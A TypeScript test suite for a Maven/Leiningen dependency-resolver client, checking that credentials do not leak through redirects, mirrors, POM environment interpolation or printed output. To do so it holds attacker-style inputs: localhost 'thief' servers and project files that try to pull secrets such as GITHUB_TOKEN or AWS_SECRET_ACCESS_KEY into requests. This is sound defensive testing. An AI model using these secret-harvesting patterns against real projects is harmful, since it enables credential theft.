/** Credentials are sent only to their own origin, and shown and kept nowhere. */
import { mkdir, writeFile } from 'node:fs/promises';
import type { IncomingHttpHeaders } from 'node:http';
import { join } from 'node:path';
import { inspect } from 'node:util';

import { afterEach, describe, expect, vi } from 'vitest';

import type { Client } from '../../src/app/client/client.js';
import { resolveProject } from '../../src/app/project/project.js';
import { coordinate, greeter, jar } from '../support/workbench.js';
import { pathOf, world } from '../support/world.js';
import { forge, it, type Stage } from './stage.js';

const files = greeter();
const secret = 's3cr3t-passphrase';
const forms = [
  secret,
  encodeURIComponent(secret),
  Buffer.from(`ada:${secret}`).toString('base64'),
  Buffer.from(secret).toString('base64').replace(/=+$/, ''),
];
const basic = `Basic ${Buffer.from(`ada:${secret}`).toString('base64')}`;

/** A server that records the headers of every request. */
async function listener(
  stage: Stage,
  answer: (path: string) => { readonly status: number; readonly location?: string },
  protocol: 'http' | 'https' = 'https',
): Promise<{ readonly url: string; readonly heard: IncomingHttpHeaders[] }> {
  const heard: IncomingHttpHeaders[] = [];
  const url = await stage.hostile((path, request, response) => {
    heard.push(request.headers);
    const { status, location } = answer(path);
    const content = status === 200 ? files.get(path) : undefined;
    response.writeHead(status === 200 && content === undefined ? 404 : status, location === undefined ? {} : { location }).end(content);
  }, protocol);
  return { url, heard };
}

const withSecret = (url: string): string => url.replace('//', `//ada:${secret}@`);

/** The ways in which a user may give credentials; each returns a client for this URL. */
const ways: readonly (readonly [string, (stage: Stage, url: string) => Promise<Client>])[] = [
  ['in the URL', (stage, url) => Promise.resolve(stage.against(withSecret(url)))],
  [
    'as auth',
    (stage, url) =>
      Promise.resolve(stage.against(url, [], { repositories: [{ id: 'r', url, auth: { username: 'ada', password: secret } }] })),
  ],
  [
    'in settings.xml',
    async (stage, url) => {
      const settings = join(stage.folder, 'settings.xml');
      await writeFile(
        settings,
        `<settings><servers><server><id>r</id><username>ada</username><password>${secret}</password></server></servers></settings>`,
      );
      return stage.against(url, [], { settings });
    },
  ],
];

describe('credentials leaking on redirect', () => {
  it.for(ways)('%s: not to another host or port, nor back again', async ([_name, open], { stage }) => {
    const thief = await listener(stage, () => ({ status: 404 }));
    let own = '';
    const back = await listener(stage, (path) => ({ status: 302, location: `${own}back/${path}` }));
    for (const target of [thief.url, thief.url.replace('localhost', '127.0.0.1'), back.url]) {
      const server = await listener(stage, (path) =>
        path.startsWith('back/') ? { status: 404 } : { status: 302, location: `${target}${path}` },
      );
      own = server.url;
      const client = await open(stage, server.url);
      await client.resolveArtifact(coordinate).catch(() => undefined);
      await client.close();
      expect(server.heard[0]?.authorization).toBe(basic);
      // After a redirect elsewhere, not even to their own origin: the other origin arranged that request.
      if (target === back.url) expect(server.heard.filter(({ authorization }) => authorization === undefined)).not.toEqual([]);
    }
    expect(thief.heard.length * back.heard.length).toBeGreaterThan(0);
    for (const headers of [...thief.heard, ...back.heard]) {
      for (const form of forms) expect(JSON.stringify(headers)).not.toContain(form);
    }
  });

  it('https to http, also on this machine: not followed', async ({ stage }) => {
    const thief = await listener(stage, () => ({ status: 200 }), 'http');
    const server = await listener(stage, (path) => ({ status: 302, location: `${thief.url}${path}` }));
    await stage
      .against(withSecret(server.url))
      .resolveArtifact(coordinate)
      .catch(() => undefined);
    expect(thief.heard).toEqual([]);
  });

  it('to a URL with other credentials in it: neither the old nor the new ones are sent', async ({ stage }) => {
    const thief = await listener(stage, () => ({ status: 200 }));
    const server = await listener(stage, (path) => ({ status: 302, location: `${thief.url.replace('//', '//eve:pass@')}${path}` }));
    await stage
      .against(withSecret(server.url))
      .resolveArtifact(coordinate)
      .catch(() => undefined);
    expect(thief.heard.length).toBeGreaterThan(0);
    expect(
      thief.heard.filter(
        ({ authorization, cookie, referer }) => authorization !== undefined || cookie !== undefined || referer !== undefined,
      ),
    ).toEqual([]);
  });
});

describe('credentials meant for one origin', () => {
  it('are not sent to a mirror elsewhere, nor to one that a mirror list adds', async ({ stage }) => {
    const [mirror, listed] = [await listener(stage, () => ({ status: 200 })), await listener(stage, () => ({ status: 200 }))];
    const canonical = await listener(stage, () => ({ status: 503 }));
    const mirrorList = join(stage.folder, 'mirrors.json');
    await writeFile(
      mirrorList,
      JSON.stringify({ version: 1, expires: '2999-01-01', repositories: [{ id: 'r', url: canonical.url, mirrors: [listed.url] }] }),
    );
    await stage
      .against(withSecret(canonical.url), [mirror.url], { mirrorList })
      .resolveArtifact(coordinate)
      .catch(() => undefined);
    expect(canonical.heard[0]?.authorization).toBe(basic);
    expect(mirror.heard.length + listed.heard.length).toBeGreaterThan(0);
    expect([...mirror.heard, ...listed.heard].filter(({ authorization }) => authorization !== undefined)).toEqual([]);
  });

  it('are not sent to another server that asks for them (401, 407)', async ({ stage }) => {
    const asking = await listener(stage, () => ({ status: 401 }));
    const proxyAsking = await listener(stage, () => ({ status: 407 }));
    const canonical = await listener(stage, () => ({ status: 503 }));
    await stage
      .against(withSecret(canonical.url), [asking.url, proxyAsking.url])
      .resolveArtifact(coordinate)
      .catch(() => undefined);
    expect(
      [...asking.heard, ...proxyAsking.heard].filter(
        (headers) => headers.authorization !== undefined || headers['proxy-authorization'] !== undefined,
      ),
    ).toEqual([]);
  });
});

describe('environment variables', () => {
  const named = (name: string): string =>
    `<project><modelVersion>4.0.0</modelVersion><groupId>g</groupId><artifactId>app</artifactId><version>1</version><dependencies><dependency><groupId>g</groupId><artifactId>lib</artifactId><version>\${env.${name}}</version></dependency></dependencies></project>`;
  afterEach(() => {
    vi.unstubAllEnvs();
  });

  it('are not read by the pom.xml of a project unless the user listed them', async ({ stage }) => {
    vi.stubEnv('ATTACKS_TEST_SECRET', secret);
    const server = await stage.serve(world('lib:1'));
    const folder = join(stage.folder, 'maven-project');
    await mkdir(folder, { recursive: true });
    await writeFile(join(folder, 'pom.xml'), named('ATTACKS_TEST_SECRET'));
    const ended = await resolveProject(folder, {
      settings: false,
      ca: stage.ca,
      repositories: [{ id: 'r', url: server.url }],
      localRepository: stage.m2,
      cacheFolder: join(stage.folder, 'cache'),
      stateFolder: join(stage.folder, 'state'),
    }).catch((error: unknown) => error);
    expect(JSON.stringify([server.requests.map(({ path }) => path), inspect(ended, { depth: 8 })])).not.toContain(secret);
  });

  it('are read if the user listed them', async ({ stage }) => {
    vi.stubEnv('ATTACKS_TEST_SECRET', '1');
    const server = await stage.serve(forge(world('app:1', 'lib:1'), { [pathOf('app', '1', 'pom')]: named('ATTACKS_TEST_SECRET') }));
    const { dependencies } = await stage
      .against(server.url, [], { pomEnvironment: ['ATTACKS_TEST_SECRET'] })
      .resolveDependencies(['g:app:1'], { download: false });
    expect(dependencies.map(({ coordinate }) => coordinate)).toEqual(['g:app:1', 'g:lib:1']);
  });

  it('cannot be put into a version, and so into a URL, by a POM unless the user listed them', async ({ stage }) => {
    const variables = {
      DATABASE_URL: `postgres://ada:${secret}@db/x`,
      PROXY: `http://ada:${secret}@proxy`,
      GITHUB_TOKEN: secret,
      AWS_SECRET_ACCESS_KEY: secret,
      CI_JOB_JWT: secret,
      DB_PWD: secret,
      REDIS_URI: secret,
      PASS: secret,
      KEY: secret,
      MNEMONIC: secret,
      SIGNING_PIN: secret,
    };
    for (const [name, value] of Object.entries(variables)) vi.stubEnv(name, value);
    const asks = Object.keys(variables).map(
      (name, index) =>
        `<dependency><groupId>g</groupId><artifactId>x${index}</artifactId><version>\${env.${name}}</version></dependency><dependency><groupId>g</groupId><artifactId>y${index}</artifactId><version>\${${name}}</version></dependency>`,
    );
    const app = `<project><modelVersion>4.0.0</modelVersion><groupId>g</groupId><artifactId>app</artifactId><version>1</version><dependencies>${asks.join('')}</dependencies></project>`;
    const server = await stage.serve(forge(world('app:1'), { [pathOf('app', '1', 'pom')]: app }));
    const ended = await stage
      .against(server.url)
      .resolveDependencies(['g:app:1'], { download: false })
      .catch((error: unknown) => error);
    expect(server.count(pathOf('app', '1', 'pom'))).toBe(1);
    expect(JSON.stringify([server.requests.map(({ path }) => path), inspect(ended, { depth: 8 })])).not.toContain(secret);
  });
});

/** Leiningen and Maven do send them, so these tests fail on purpose until decided otherwise: docs/attacks.md warns of it. */
describe('a project file by a stranger', () => {
  const sentBy = async (stage: Stage, repository: (url: string) => string): Promise<string> => {
    const thief = await listener(stage, () => ({ status: 404 }));
    const folder = join(stage.folder, 'project');
    const settings = join(stage.folder, 'settings.xml');
    await mkdir(folder, { recursive: true });
    await writeFile(
      settings,
      `<settings><servers><server><id>company</id><username>ada</username><password>${secret}</password></server></servers></settings>`,
    );
    await writeFile(
      join(folder, 'project.clj'),
      `(defproject a "1" :dependencies [[g/web "1"]] :repositories ^:replace [${repository(thief.url)}] :profiles {:base {}})`,
    );
    const folders = { localRepository: stage.m2, cacheFolder: join(stage.folder, 'cache'), stateFolder: join(stage.folder, 'state') };
    vi.stubEnv('ATTACKS_TEST_SECRET', secret);
    try {
      await resolveProject(folder, { leiningenHome: false, settings, ca: stage.ca, ...folders }).catch(() => undefined);
    } finally {
      vi.unstubAllEnvs();
    }
    expect(thief.heard.length).toBeGreaterThan(0);
    return thief.heard.map(({ authorization = '' }) => Buffer.from(authorization.slice(6), 'base64').toString()).join();
  };

  it.fails('cannot obtain a password of settings.xml by giving its repository the same id', async ({ stage }) => {
    expect(await sentBy(stage, (url) => `["company" {:url "${url}"}]`)).not.toContain(secret);
  });

  it.fails('cannot obtain an environment variable by naming it', async ({ stage }) => {
    expect(await sentBy(stage, (url) => `["evil" {:url "${url}" :username :env/home :password :env/attacks_test_secret}]`)).not.toContain(
      secret,
    );
  });
});

describe('credentials in output', () => {
  it.for(ways)('%s: in no error, event, verbose or JSON text, and in no file that is kept', async ([_name, open], { stage }) => {
    const url = await stage.hostile((path, _request, response) => response.writeHead(path === jar ? 403 : 200).end(files.get(path)));
    const client = await open(stage, url);
    const errors: unknown[] = [];
    for (const wanted of [coordinate, 'org.example:greeter:RELEASE', 'org.example:absent:1'])
      errors.push(await client.resolveArtifact(wanted).catch((error: unknown) => error));
    const told = inspect([errors, stage.events, await client.diagnose(), await client.listMirrors()], { depth: 12, showHidden: true });
    await client.close();
    const kept = [...(await stage.kept())].filter(([name]) => name !== 'settings.xml').map(([, text]) => text);
    for (const text of [told, ...kept]) for (const form of forms) expect(text).not.toContain(form);
  });

  it('given on the command line: not in --verbose, --json, doctor, mirrors', async ({ stage }) => {
    const server = await stage.serve(files, { fault: { fault: { status: 403 }, match: /\.jar$/ } });
    await mkdir(stage.m2, { recursive: true });
    for (const words of [
      ['org.example/greeter', '1.0.0', '--verbose'],
      ['org.example/greeter', '1.0.0', '--json'],
      ['doctor'],
      ['doctor', '--json'],
      ['mirrors'],
      ['mirrors', '--json'],
      ['versions', 'org.example/greeter', '--verbose'],
      ['deps', 'org.example/greeter', '1.0.0', '--verbose'],
    ]) {
      const { stdout, stderr } = await stage.cli([
        ...words,
        '--repo',
        `r=${withSecret(server.url)}`,
        '--mirror',
        `r=${withSecret(server.url)}other/`,
      ]);
      for (const form of forms) expect(stdout + stderr).not.toContain(form);
    }
    for (const bad of [
      `r=${withSecret('https://x')}:port/`,
      `r=${withSecret('ftp://x/')}`,
      `r=${withSecret('http://public.example/')}`,
      withSecret('https://x/'),
      `r=${withSecret('https://x/')}?q`,
    ]) {
      const { code, stdout, stderr } = await stage.cli(['org.example/greeter', '1.0.0', '--repo', bad]);
      expect(code).toBe(2);
      for (const form of forms) expect(stdout + stderr).not.toContain(form);
    }
  });

  it('the secret of a signed URL that a server redirects to: not shown either', async ({ stage }) => {
    const url = await stage.hostile((path, _request, response) =>
      response
        .writeHead(302, { location: path.endsWith('.jar') ? `ftp://store.example/x?X-Amz-Signature=${secret}` : `/gone?sig=${secret}` })
        .end(),
    );
    const error = await stage
      .against(url)
      .resolveArtifact(coordinate)
      .catch((one: unknown) => one);
    expect(error).toMatchObject({ code: 'ERR_UNREACHABLE' });
    expect(inspect([error, stage.events], { depth: 12, showHidden: true })).not.toContain(secret);
  });

  it('echoed by a server in headers and bodies: not quoted', async ({ stage }) => {
    const url = await stage.hostile((_path, { headers: { authorization = '' } }, response) => {
      const plain = Buffer.from(authorization.slice(6), 'base64').toString();
      response
        .writeHead(200, { etag: authorization, 'x-checksum-sha1': plain, 'content-type': plain, server: authorization })
        .end(`${authorization} ${plain}`);
    });
    const error = await stage
      .against(withSecret(url))
      .resolveArtifact(coordinate)
      .catch((one: unknown) => one);
    expect(error).toBeInstanceOf(Error);
    const told = inspect([error, stage.events], { depth: 12, showHidden: true });
    for (const form of forms) expect(told).not.toContain(form);
  });
});
